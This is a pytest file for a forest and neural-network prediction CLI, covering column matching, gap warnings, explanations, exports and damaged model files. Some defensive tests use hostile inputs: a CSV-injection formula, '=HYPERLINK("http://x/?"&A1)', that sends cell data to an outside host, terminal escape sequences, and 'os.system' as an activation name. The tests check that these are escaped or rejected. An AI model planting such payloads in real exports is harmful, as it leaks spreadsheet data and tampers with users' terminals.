"""Forests on new rows: columns by name, rows that cannot be predicted, paths, and exports."""

from __future__ import annotations

import json
import types
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from dpforest.boosting.lines import linear_forest
from dpforest.forest import Forest, load, save
from dpforest.own_rows import OwnRows
from dpforest.schema import Feature, Schema
from fl_app.commands.cli import main as dpforest
from fl_app.results.mlflow_model import PyfuncModel

SCHEMA = Schema.from_dict(
    {
        "target": "kind",
        "classes": ["rest", "exercise"],
        "features": [
            {"name": "hr", "low": 30, "high": 220, "unit": "1/min"},
            {"name": "acc", "low": -40, "high": 40},
            {"name": "side", "categories": ["left", "right"]},
        ],
    }
)


OWN = {"schema": SCHEMA.to_dict(), "standardize": "own", "own_scale": "z", "less": 0.0, "times": 1.0}


@pytest.fixture
def model(tmp_path: Path) -> Path:
    """hr <= 90: rest (0.8); else on the right side exercise (0.9), on the left rest (0.6)."""
    forest = Forest(
        schema=SCHEMA,
        output="probability",
        offsets=np.array([0, 5]),
        feature=np.array([0, -1, 3, -1, -1], dtype=np.int32),
        threshold=np.array([90.0, 0.0, 0.5, 0.0, 0.0]),
        left=np.array([1, -1, 3, -1, -1], dtype=np.int32),
        value=np.array([[0, 0], [0.8, 0.2], [0, 0], [0.6, 0.4], [0.1, 0.9]]),
        weight=np.array([0, 40.0, 0, 20.0, 20.0]),
        base=np.zeros(2),
        owners=("k1",),
    )
    return save(forest, tmp_path / "forest.json")


def predicted(model: Path, text: str, *options: str) -> pd.DataFrame:
    data, out = model.with_name("new.csv"), model.with_name("out.csv")
    data.write_text(text)
    assert dpforest(["predict", "--model", str(model), "--data", str(data), "--out", str(out), *options]) == 0
    return pd.read_csv(out)


def test_columns_are_found_by_name_in_any_order(model: Path, capsys: pytest.CaptureFixture[str]) -> None:
    frame = predicted(model, "note;side;acc;HR\nx;right;0,5;120\ny;left;-1;120,5\nz;left;0;80\n")
    assert frame.columns.tolist() == ["line", "prediction", "probability_rest", "probability_exercise"]
    assert frame["line"].tolist() == [2, 3, 4]
    assert frame["prediction"].tolist() == ["exercise", "rest", "rest"]
    assert frame["probability_exercise"].tolist() == [0.9, 0.4, 0.2]
    assert "columns that the model does not know are left out: note" in capsys.readouterr().out


def test_rows_with_a_gap_have_no_prediction_and_are_named(model: Path, capsys: pytest.CaptureFixture[str]) -> None:
    frame = predicted(model, "hr,acc,side\n120,,right\n80,0,left\n,0,left\n120,0,up\n")
    assert frame["prediction"].fillna("").tolist() == ["", "rest", "", ""]
    assert frame["probability_rest"].isna().tolist() == [True, False, True, True]
    printed = capsys.readouterr().out
    for line, column in ((2, "acc"), (4, "hr")):
        assert f"warning: new.csv, line {line}: column {column!r} is '', which is missing; fill it" in printed
    unlisted = "column 'side' is 'up', which is not among its categories ['left', 'right']; correct it"
    assert f"warning: new.csv, line 5: {unlisted}, or there is no prediction" in printed


def test_records_that_cannot_be_read_are_named_and_the_others_predicted(
    model: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data, out = model.with_name("new.csv"), model.with_name("out.csv")
    data.write_bytes(b'hr,acc,side\n120,0,right\n120,"0,right\n120,0,l\xe9ft\n120\n80,0,left\n')
    assert dpforest(["predict", "--model", str(model), "--data", str(data), "--out", str(out)]) == 0
    assert pd.read_csv(out)["prediction"].fillna("").tolist() == ["exercise", "", "", "", "rest"]
    printed = capsys.readouterr().out
    for line, what in ((3, "a quote is not closed on its line"), (4, "not UTF-8 text"), (5, "fewer cells than the")):
        assert f"warning: new.csv, line {line}: {what}" in printed


def test_parquet_is_read_and_another_unit_is_a_warning(model: Path, capsys: pytest.CaptureFixture[str]) -> None:
    data, out = model.with_name("new.parquet"), model.with_name("out.csv")
    pd.DataFrame({"side": ["left", "right"], "ACC": [0, 1], "hr": [80.0, 7200.0]}).to_parquet(data)
    assert dpforest(["predict", "--model", str(model), "--data", str(data), "--out", str(out)]) == 0
    assert pd.read_csv(out)["prediction"].tolist() == ["rest", "exercise"]
    said = "new.parquet: 1 cells outside their public bounds were clipped: hr 50.00%; is a unit or a bound wrong?"
    assert f"warning: {said}" in capsys.readouterr().out


def test_many_gaps_are_counted(model: Path, capsys: pytest.CaptureFixture[str]) -> None:
    predicted(model, "hr,acc,side\n120,0,right\n" + "120,?,right\n" * 20)
    assert "new.csv: 15 more rows have no prediction" in capsys.readouterr().out


def test_a_row_longer_than_the_header_is_not_predicted_by_position(
    model: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Decimal commas between commas shift all cells behind them; an empty cell at the end shifts nothing."""
    frame = predicted(model, "hr,acc,side\n120,0,right,\n80,5,1,left\n80,0,left\n80,0,5,left,,,,\n")
    assert frame["prediction"].fillna("").tolist() == ["exercise", "", "rest", ""]
    printed = capsys.readouterr().out
    for line in (3, 5):
        assert f"warning: new.csv, line {line}: more cells than the header has columns; name every column" in printed


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("hr,acc,side\n", "new.csv, line 2: no rows below the header"),
        (
            "hr,acc,side\n,0,left\n",
            "no row can be predicted: new.csv, line 2: column 'hr' is '', which is missing; fill it",
        ),
        ("hr,acc,side\n1,80,0,left\n", "no row can be predicted: new.csv, line 2: more cells than the header"),
        ("hr,side\n1,left\n", "new.csv, line 1: no column 'acc'; add or rename it, there are hr, side"),
        ("1,2,left\n3,4,right\n", "new.csv, line 1: no column 'hr'"),
        ("", "new.csv, line 1: no header"),
    ],
)
def test_a_missing_column_is_an_error_in_one_line(
    model: Path, text: str, message: str, capsys: pytest.CaptureFixture[str]
) -> None:
    data, out = model.with_name("new.csv"), model.with_name("out.csv")
    data.write_text(text)
    assert dpforest(["predict", "--model", str(model), "--data", str(data), "--out", str(out)]) == 1
    printed = capsys.readouterr().err
    assert message in printed
    assert printed.count("\n") == 1
    assert not out.exists()


def test_class_names_of_a_foreign_model_are_no_formulas(model: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The beginnings that OWASP names for CSV injection; a number is none, whatever its sign."""
    plain = json.loads(model.read_text())
    plain["schema"]["classes"] = ["-1", '=HYPERLINK("http://x/?"&A1)']
    model.write_text(json.dumps(plain))
    frame = predicted(model, "hr,acc,side\n120,0,right\n80,0,left\n")
    assert frame["prediction"].tolist() == ['\'=HYPERLINK("http://x/?"&A1)', "-1"]
    assert frame.columns[2:].tolist() == ["probability_-1", 'probability_=HYPERLINK("http://x/?"&A1)']
    assert "class names that a spreadsheet would calculate are written with '" in capsys.readouterr().out
    for name in ("+1+2", "-x", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1+1"):
        plain["schema"]["classes"] = ["rest", name]
        model.write_text(json.dumps(plain))
        assert predicted(model, "hr,acc,side\n120,0,right\n")["prediction"].tolist() == [f"'{name}"]


def test_escape_codes_of_a_foreign_model_reach_no_header_cell_or_terminal(
    model: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    plain = json.loads(model.read_text())
    name = "\x1b]0;owned\x07\x1b[2J\u202e"
    plain["schema"]["classes"] = [name, "exercise"]
    plain["schema"]["features"][0]["unit"] = name
    model.write_text(json.dumps(plain))
    frame = predicted(model, f"hr,acc,side,{name}\n80,0,right,1\n", "--explain")
    written = r"\x1b]0;owned\x07\x1b[2J\u202e"
    assert frame.columns[2] == f"probability_{written}"
    assert frame["prediction"].tolist() == [written]
    for text in (model.with_name("out.csv").read_text(), capsys.readouterr().out):
        assert all(line.isprintable() for line in text.splitlines())


def test_paths_are_said_in_words(model: Path) -> None:
    frame = predicted(model, "hr,acc,side\n120,0,right\n", "--explain")
    assert frame["path"].tolist() == [
        "tree 1: hr is 120 1/min: hr > 90 1/min; side is right: side is right; so exercise (90 %), about 20 records"
    ]


def test_a_damaged_model_is_an_error(model: Path, capsys: pytest.CaptureFixture[str]) -> None:
    model.write_text(model.read_text()[:200])
    assert dpforest(["predict", "--model", str(model), "--data", "new.csv", "--out", "out.csv"]) == 1
    assert "was it cut short" in capsys.readouterr().err
    assert dpforest(["export", "--model", str(model), "--to", "nested", "--out", "out.json"]) == 1
    assert dpforest(["predict", "--model", "no such file", "--data", "new.csv", "--out", "out.csv"]) == 1


def test_targets_are_predicted_too(tmp_path: Path) -> None:
    feature = {"name": "a", "low": 0, "high": 1}
    schema = Schema.from_dict({"target": "energy", "target_range": [0, 10], "features": [feature]})
    forest = Forest(
        schema=schema,
        output="target",
        offsets=np.array([0, 3]),
        feature=np.array([0, -1, -1], dtype=np.int32),
        threshold=np.array([0.5, 0, 0]),
        left=np.array([1, -1, -1], dtype=np.int32),
        value=np.array([[0.0], [2.5], [7.0]]),
        weight=np.array([0, 1.0, 1.0]),
        base=np.zeros(1),
        owners=("",),
    )
    frame = predicted(save(forest, tmp_path / "forest.json"), "a\n0.2\n0.7\n\n0.6\n")
    assert frame["prediction"].tolist() == [2.5, 7.0, 7.0]
    assert frame["line"].tolist() == [2, 3, 5]


def test_the_same_model_serves_from_python(model: Path) -> None:
    forest = load(model)
    found = forest.predict_proba(forest.schema.matrix(pd.DataFrame({"side": ["right"], "acc": [0], "hr": [120]})))
    assert found.tolist() == [[0.1, 0.9]]


def test_exports(model: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = model.with_name("nested.json")
    assert dpforest(["export", "--model", str(model), "--to", "nested", "--out", str(out)]) == 0
    assert json.loads(out.read_text())["trees"][0]["client_id"] == "k1"
    pytest.importorskip("onnx")
    assert (
        dpforest(["export", "--model", str(model), "--to", "onnx", "--out", str(model.with_name("forest.onnx"))]) == 0
    )
    assert model.with_name("forest.onnx").stat().st_size > 100
    assert "1 trees in" in capsys.readouterr().out


@pytest.mark.parametrize("kind", ["classes", "target"])
def test_a_network_predicts_as_it_does_in_its_run(
    kind: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    pytest.importorskip("keras")
    from baselines.mlp.architecture import Architecture
    from baselines.mlp.inputs import MEAN, SCALE, from_outputs, model_inputs, n_inputs
    from baselines.mlp.network import network_for
    from baselines.mlp.saved import save_network

    plain = SCHEMA.to_dict()
    plain["features"][0]["missing"] = "branch"
    if kind == "target":
        plain = {**{key: value for key, value in plain.items() if key != "classes"}, "target_range": [0, 9]}
    schema = Schema.from_dict(plain)
    architecture = Architecture(n_inputs(schema), schema.n_outputs, kind == "classes", (5, 4), "relu", 0.1, (1,))
    rng = np.random.default_rng(0)
    weights: dict[str, np.ndarray] = {
        name: np.abs(rng.normal(size=shape)).astype(np.float32) for name, shape in architecture.shapes.items()
    }
    arrays = weights | {MEAN: rng.normal(size=5).astype(np.float32), SCALE: np.full(5, 0.7, dtype=np.float32)}
    save_network(tmp_path, architecture, schema, arrays)
    frame = predicted(tmp_path / "network.json", "hr,acc,side\n60,1,left\n150,-3,right\n,2,left\n")
    X = np.array([[60, 1, 1, 0], [150, -3, 0, 1], [schema.missing_values[0], 2, 1, 0]], dtype=float)
    wanted = network_for(architecture).predict(weights, model_inputs(X, schema, True, arrays))
    if kind == "classes":
        assert frame["probability_exercise"].to_numpy() == pytest.approx(wanted[:, 1], abs=1e-5)
    else:
        assert frame["prediction"].to_numpy() == pytest.approx(from_outputs(wanted, schema), abs=1e-4)
    command = ["predict", "--model", str(tmp_path / "network.json"), "--data", str(tmp_path / "new.csv")]
    assert dpforest([*command, "--out", str(tmp_path / "o.csv"), "--explain"]) == 1
    assert "error: --explain is for forests, and this is a SavedNetwork" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("damage", "said"),
    [
        ({"rows": {"schema": None}}, "expected a mapping"),
        ({"hidden": "many"}, "must say inputs, outputs"),
        ({"hidden": [0]}, "whole numbers from 1"),
        ({"activation": "os.system"}, "must be one of relu"),
        ({"inputs": 7}, "does not fit its schema"),
        ({"hidden": [6]}, "have shape (4, 5); expected (4, 6)"),
        ({"rows": OWN | {"own_scale": "sky"}}, "own_scale must be z or ranks, and less and times numbers below"),
        ({"rows": OWN | {"times": "many"}}, "own_scale must be z or ranks, and less and times numbers below"),
        ({"rows": OWN | {"tide": 3}}, "says more of its rows than this version knows"),
    ],
)
def test_a_damaged_network_is_one_line(
    damage: dict[str, object], said: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from baselines.mlp.architecture import Architecture
    from baselines.mlp.saved import save_network

    architecture = Architecture(4, 2, True, (5,), "relu", 0.0, ())
    save_network(tmp_path, architecture, SCHEMA, architecture.initial_weights(np.random.default_rng(0)))
    file = tmp_path / "network.json"
    file.write_text(json.dumps(json.loads(file.read_text()) | damage))
    (tmp_path / "new.csv").write_text("hr,acc,side\n60,1,left\n")
    command = ["predict", "--model", str(file), "--data", str(tmp_path / "new.csv"), "--out", str(tmp_path / "o.csv")]
    assert dpforest(command) == 1
    error = capsys.readouterr().err
    assert said in error
    assert error.count("\n") == 1


def test_a_network_on_people_s_own_scales_predicts_a_file_a_person(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from baselines.mlp.architecture import Architecture
    from baselines.mlp.saved import load_network, save_network

    architecture = Architecture(4, 2, True, (5,), "tanh", 0.0, ())
    rng = np.random.default_rng(1)
    weights = {name: rng.normal(size=shape).astype(np.float32) for name, shape in architecture.shapes.items()}
    save_network(tmp_path, architecture, SCHEMA, weights, OWN)
    lines = [f"{60 + 3 * n},{n % 7},{'left' if n % 2 else 'right'}" for n in range(32)]
    frame = predicted(tmp_path / "network.json", "\n".join(["hr,acc,side", *lines]))
    assert "all 32 rows are taken to be of one person" in capsys.readouterr().out
    X = np.array([[60 + 3 * n, n % 7, n % 2, 1 - n % 2] for n in range(32)], dtype=np.float32)
    network = load_network(tmp_path / "network.json")
    wanted = network.predict_proba(network.of_person(X))[:, 1]
    assert frame["probability_exercise"].to_numpy() == pytest.approx(wanted, abs=1e-6)
    found = PyfuncModel(network).predict(pd.DataFrame({"hr": X[:, 0], "acc": X[:, 1], "side": ["right", "left"] * 16}))
    assert found["probability_exercise"].to_numpy() == pytest.approx(wanted, abs=1e-6)


class _Constant:
    """The least that a model of another package must be."""

    schema = SCHEMA

    def predict_proba(self, X: np.ndarray) -> np.ndarray:
        return np.tile([0.25, 0.75], (len(X), 1))

    def predict(self, X: np.ndarray) -> np.ndarray:
        return np.ones(len(X), dtype=np.int64)


def test_a_package_brings_a_model_of_its_own(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    class Entry:
        value = "package:load"

        def load(self) -> object:
            return lambda path: _Constant()

    def entries(group: str, name: str) -> list[Entry]:
        return [Entry()] if (group, name) == ("dpforest.models", "votes.json") else []

    monkeypatch.setattr("fl_app.results.model_file.entry_points", entries)
    frame = predicted(tmp_path / "votes.json", "hr,acc,side\n60,1,left\n")
    assert frame["prediction"].tolist() == ["exercise"]
    command = ["export", "--model", str(tmp_path / "votes.json"), "--to", "onnx", "--out", str(tmp_path / "votes.onnx")]
    assert dpforest(command) == 1
    said = capsys.readouterr().err
    assert "error: a _Constant has no ONNX form: its package must give it a method to_onnx" in said
    assert said.count("\n") == 1
    proto = types.SimpleNamespace(SerializeToString=lambda: b"a model")
    monkeypatch.setattr(_Constant, "to_onnx", lambda self: proto, raising=False)
    assert dpforest(command) == 0
    assert (tmp_path / "votes.onnx").read_bytes() == b"a model"


def test_a_network_is_exported_and_has_no_nested_form(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    onnx = pytest.importorskip("onnx")
    from baselines.mlp.architecture import Architecture
    from baselines.mlp.saved import save_network

    architecture = Architecture(4, 2, True, (5,), "relu", 0.0, ())
    save_network(tmp_path, architecture, SCHEMA, architecture.initial_weights(np.random.default_rng(0)))
    command = ["export", "--model", str(tmp_path / "network.json"), "--out", str(tmp_path / "network.onnx")]
    assert dpforest([*command, "--to", "onnx"]) == 0
    assert "a SavedNetwork in " in capsys.readouterr().out
    onnx.checker.check_model(onnx.load(tmp_path / "network.onnx"))
    assert dpforest([*command, "--to", "nested"]) == 1
    assert "error: --to nested is for forests, and this is a SavedNetwork" in capsys.readouterr().err


@pytest.mark.parametrize("rows", [1, 4, 40])
def test_a_person_s_rows_are_put_on_its_own_scale_and_one_row_has_none(
    rows: int, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    own = OwnRows(Schema((Feature("speed", 0, 10),), classes=("walk", "run")))
    forest = linear_forest(own, np.array([[-1.0, 1.0]]), np.zeros(2), False, {})
    path, table, out = save(forest, tmp_path / "forest.json"), tmp_path / "new.csv", tmp_path / "out.csv"
    speed = np.linspace(1, 3, rows)
    pd.DataFrame({"speed": speed}).to_csv(table, index=False)
    code = dpforest(["predict", "--model", str(path), "--data", str(table), "--out", str(out)])
    said = capsys.readouterr()
    if rows == 1:
        assert code == 1
        assert "one row has none; give 30 or more rows" in said.err
        return
    assert code == 0
    # By its own scale a slow person runs at its own highest speeds.
    predicted = pd.read_csv(out)["prediction"].tolist()
    assert set(predicted[: rows // 4]) == {"walk"}
    assert set(predicted[-rows // 4 :]) == {"run"}
    assert ("30 or more are needed" in said.out) == (rows < 30)
